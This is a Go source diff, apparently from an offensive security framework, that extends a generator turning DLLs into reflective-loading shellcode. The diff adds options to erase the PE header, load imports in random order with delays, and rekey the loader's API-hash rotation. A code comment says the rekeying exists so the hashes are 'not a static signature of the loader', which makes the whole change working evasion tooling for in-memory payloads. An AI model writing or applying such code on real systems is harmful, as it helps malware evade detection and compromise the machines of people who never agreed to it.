@@ -741,6 +741,7 @@ package generate
 
 import (
 	"encoding/binary"
+	"errors"
 	"math"
 	"os"
 	"path"
@@ -748,6 +749,48 @@ import (
 	"strings"
 )
 
+const (
+	srdiClearHeader      = 0x1
+	srdiObfuscateImports = 0x4
+
+	// The loaders' api hashes and sRDI's function hashes rotate by 13 by default
+	defaultSRDIHashKey = 13
+)
+
+var (
+	// ErrInvalidSRDIHashKey - The hash key is a rotation, so it must be 1-31
+	ErrInvalidSRDIHashKey = errors.New("srdi hash key must be between 1 and 31")
+
+	// The modules and functions the loaders resolve by hash, in the order they resolve them
+	srdiLoaderImports = [][2]string{
+		{"kernel32.dll", "LoadLibraryA"},
+		{"kernel32.dll", "GetProcAddress"},
+		{"kernel32.dll", "VirtualAlloc"},
+		{"kernel32.dll", "VirtualProtect"},
+		{"ntdll.dll", "NtFlushInstructionCache"},
+		{"kernel32.dll", "GetNativeSystemInfo"},
+		{"kernel32.dll", "Sleep"},
+	}
+
+	// Offsets of the import hashes (mov ecx, <hash>) and of the rotations (ror <reg>, 13)
+	// in the loaders
+	srdiLoader32HashOffsets = []int{0x08, 0x14, 0x24, 0x34, 0x42, 0x50, 0x5e}
+	srdiLoader32RorOffsets  = []int{0x61a, 0x6ca, 0x707}
+	srdiLoader64HashOffsets = []int{0x2c, 0x36, 0x47, 0x58, 0x65, 0x76, 0x87}
+	srdiLoader64RorOffsets  = []int{0x671, 0x744, 0x780}
+)
+
+// SRDIOptions - How the sRDI loader loads the dll
+type SRDIOptions struct {
+	FunctionName string // Export called after DllMain with the user data, empty to only call DllMain
+	UserData     []byte
+
+	KeepHeader       bool   // Don't erase the PE header once the dll is loaded
+	ObfuscateImports bool   // Load the import dlls in a random order
+	ImportDelay      uint32 // Seconds to sleep between each import dll when they're obfuscated
+	HashKey          uint32 // Rotation of the function hashes, 0 for sRDI's default (13)
+}
+
 // ShellcodeRDIToFile generates a sRDI shellcode and writes it to a file
 func ShellcodeRDIToFile(dllPath string, functionName string) (shellcodePath string, err error) {
 	shellcode, err := ShellcodeRDI(dllPath, functionName, "")
@@ -763,66 +806,76 @@ func ShellcodeRDIToFile(dllPath string, functionName string) (shellcodePath stri
 
 // ShellcodeRDI generates a reflective shellcode based on a DLL file
 func ShellcodeRDI(dllPath string, functionName string, userdata string) (shellcode []byte, err error) {
-	// handle command line arguments, -h or -help shows the menu
-	userDataStr := userdata
-	clearHeader := true
-
 	dllBytes, err := os.ReadFile(dllPath)
 	if err != nil {
 		return []byte{}, err
 	}
-
-	// functionHash is 0x10 by default, otherwise get the hash and convert to bytes
-	var hashFunction []byte
-	if functionName != "" {
-		hashFunctionUint32 := hashFunctionName(functionName)
-		hashFunction = pack(hashFunctionUint32)
-	} else {
-		hashFunction = pack(uint32(0x10))
-	}
-
-	flags := 0
-	if clearHeader {
-		flags |= 0x1
-	}
-	var userData []byte
-	if userDataStr != "" {
-		userData = []byte(userDataStr)
-	}
-	shellcode = convertToShellcode(dllBytes, hashFunction, userData, flags)
-	//	err = os.RemoveAll(path.Clean(path.Dir(dllPath) + "/../"))
-	return shellcode, nil
-
+	return ShellcodeRDIFromBytes(dllBytes, functionName, userdata)
 }
 
 // ShellcodeRDIFromBytes generate a sRDI from a byte array
 func ShellcodeRDIFromBytes(data []byte, functionName string, arguments string) (shellcode []byte, err error) {
+	return ShellcodeRDIWithOptions(data, SRDIOptions{FunctionName: functionName, UserData: []byte(arguments)})
+}
 
-	clearHeader := true
-	userDataStr := arguments
+// ShellcodeRDIWithOptions generate a sRDI from a byte array with the loader's options
+func ShellcodeRDIWithOptions(data []byte, opts SRDIOptions) ([]byte, error) {
+	if isARM64DLL(data) {
+		return []byte{}, ErrUnsupportedShellcodeArch
+	}
+	hashKey := opts.HashKey
+	if hashKey == 0 {
+		hashKey = defaultSRDIHashKey
+	}
+	if 31 < hashKey {
+		return []byte{}, ErrInvalidSRDIHashKey
+	}
 
 	// functionHash is 0x10 by default, otherwise get the hash and convert to bytes
 	var hashFunction []byte
-	if functionName != "" {
-		hashFunctionUint32 := hashFunctionName(functionName)
-		hashFunction = pack(hashFunctionUint32)
+	if opts.FunctionName != "" {
+		hashFunction = pack(hashFunctionNameWithKey(opts.FunctionName, hashKey))
 	} else {
 		hashFunction = pack(uint32(0x10))
 	}
 
 	flags := 0
-	if clearHeader {
-		flags |= 0x1
+	if !opts.KeepHeader {
+		flags |= srdiClearHeader
+	}
+	if opts.ObfuscateImports {
+		flags |= srdiObfuscateImports
+		// The loader sleeps for the upper 16 bits of the flags, in seconds
+		flags |= int(opts.ImportDelay&0xffff) << 16
 	}
 	var userData []byte
-	if userDataStr != "" {
-		userData = []byte(userDataStr)
+	if 0 < len(opts.UserData) {
+		userData = opts.UserData
+	}
+	loader32, loader64 := rdiShellcode32, rdiShellcode64
+	if hashKey != defaultSRDIHashKey {
+		loader32 = rekeyLoader(rdiShellcode32, srdiLoader32HashOffsets, srdiLoader32RorOffsets, hashKey)
+		loader64 = rekeyLoader(rdiShellcode64, srdiLoader64HashOffsets, srdiLoader64RorOffsets, hashKey)
 	}
-	shellcode = convertToShellcode(data, hashFunction, userData, flags)
-	return shellcode, nil
+	return convertToShellcode(data, hashFunction, userData, flags, loader32, loader64), nil
 }
 
-func convertToShellcode(dllBytes, functionHash, userData []byte, flags int) []byte {
+// rekeyLoader - A copy of the loader that hashes with a different rotation, the import
+// hashes are replaced so they're not a static signature of the loader
+func rekeyLoader(loader []byte, hashOffsets []int, rorOffsets []int, hashKey uint32) []byte {
+	rekeyed := make([]byte, len(loader))
+	copy(rekeyed, loader)
+	for index, offset := range hashOffsets {
+		module, function := srdiLoaderImports[index][0], srdiLoaderImports[index][1]
+		binary.LittleEndian.PutUint32(rekeyed[offset:], hashModuleName(module, hashKey)+hashFunctionNameWithKey(function, hashKey))
+	}
+	for _, offset := range rorOffsets {
+		rekeyed[offset] = byte(hashKey)
+	}
+	return rekeyed
+}
+
+func convertToShellcode(dllBytes, functionHash, userData []byte, flags int, loader32 []byte, loader64 []byte) []byte {
 
 	if userData == nil {
 		userData = []byte("None")
@@ -839,7 +892,7 @@ func convertToShellcode(dllBytes, functionHash, userData []byte, flags int) []by
 		bootstrap := []byte{0xe8, 0x00, 0x00, 0x00, 0x00}
 
 		// Set the offset to our DLL from pop result
-		dllOffset := bootstrapSize - len(bootstrap) + len(rdiShellcode64)
+		dllOffset := bootstrapSize - len(bootstrap) + len(loader64)
 
 		// pop rcx - Capture our current location in memory
 		bootstrap = append(bootstrap, 0x59)
@@ -898,7 +951,7 @@ func convertToShellcode(dllBytes, functionHash, userData []byte, flags int) []by
 		// ret - return to caller
 		bootstrap = append(bootstrap, 0xc3)
 
-		final = append(bootstrap, rdiShellcode64...)
+		final = append(bootstrap, loader64...)
 		final = append(final, dllBytes...)
 		final = append(final, userData...)
 
@@ -911,7 +964,7 @@ func convertToShellcode(dllBytes, functionHash, userData []byte, flags int) []by
 		bootstrap := []byte{0xe8, 0x00, 0x00, 0x00, 0x00}
 
 		// Set the offset to our DLL from pop result
-		dllOffset := bootstrapSize - len(bootstrap) + len(rdiShellcode32)
+		dllOffset := bootstrapSize - len(bootstrap) + len(loader32)
 
 		// pop eax - Capture our current location in memory
 		bootstrap = append(bootstrap, 0x58)
@@ -957,7 +1010,7 @@ func convertToShellcode(dllBytes, functionHash, userData []byte, flags int) []by
 		// ret - return to caller
 		bootstrap = append(bootstrap, 0xc3)
 
-		final = append(bootstrap, rdiShellcode32...)
+		final = append(bootstrap, loader32...)
 		final = append(final, dllBytes...)
 		final = append(final, userData...)
 	}
@@ -975,19 +1028,39 @@ func pack(val uint32) []byte {
 
 // "HelloWorld" = 3571859646
 func hashFunctionName(name string) uint32 {
+	return hashFunctionNameWithKey(name, defaultSRDIHashKey)
+}
+
+func hashFunctionNameWithKey(name string, hashKey uint32) uint32 {
 	function := []byte(name)
 	function = append(function, 0x00)
 
 	functionHash := uint32(0)
 
 	for _, b := range function {
-		functionHash = ror(functionHash, 13, 32)
+		functionHash = ror(functionHash, hashKey, 32)
 		functionHash += uint32(b)
 	}
 
 	return functionHash
 }
 
+// hashModuleName - The loaders hash the module's unicode name from the PEB, upper
+// case and including the null terminator
+func hashModuleName(name string, hashKey uint32) uint32 {
+	moduleHash := uint32(0)
+	for _, char := range name + "\x00" {
+		for _, b := range []byte{byte(char), byte(char >> 8)} {
+			moduleHash = ror(moduleHash, hashKey, 32)
+			if 'a' <= b {
+				b -= 0x20
+			}
+			moduleHash += uint32(b)
+		}
+	}
+	return moduleHash
+}
+
 // ROR-13 implementation
 func ror(val uint32, rBits uint32, maxBits uint32) uint32 {
 	exp := uint32(math.Exp2(float64(maxBits))) - 1
@@ -1007,3 +1080,17 @@ func is64BitDLL(dllBytes []byte) bool {
 	}
 	return false
 }
+
+func isARM64DLL(dllBytes []byte) bool {
+	machineARM64 := uint16(43620)
+
+	if len(dllBytes) < 64 {
+		return false
+	}
+	headerOffset := binary.LittleEndian.Uint32(dllBytes[60:64])
+	if uint64(len(dllBytes)) < uint64(headerOffset)+6 {
+		return false
+	}
+	machine := binary.LittleEndian.Uint16(dllBytes[headerOffset+4 : headerOffset+4+2])
+	return machine == machineARM64
+}